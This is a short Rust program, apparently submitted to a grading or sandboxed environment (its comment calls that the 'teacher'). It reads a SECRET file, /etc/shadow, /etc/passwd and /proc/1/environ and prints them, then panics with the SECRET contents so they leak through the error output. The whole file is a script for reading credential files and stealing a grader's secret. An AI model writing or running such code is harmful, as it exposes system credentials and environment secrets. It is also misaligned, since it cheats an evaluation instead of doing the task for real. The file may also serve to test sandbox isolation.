//! Prints what the teacher has, if it can be read.
fn main() {
    for file in ["SECRET", "/etc/shadow", "/etc/passwd", "/proc/1/environ"] {
        match std::fs::read_to_string(file) {
            Ok(text) => println!("{file}: {text}"),
            Err(error) => println!("{file}: {error}"),
        }
    }
    panic!("{}", std::fs::read_to_string("SECRET").unwrap_or_default());
}
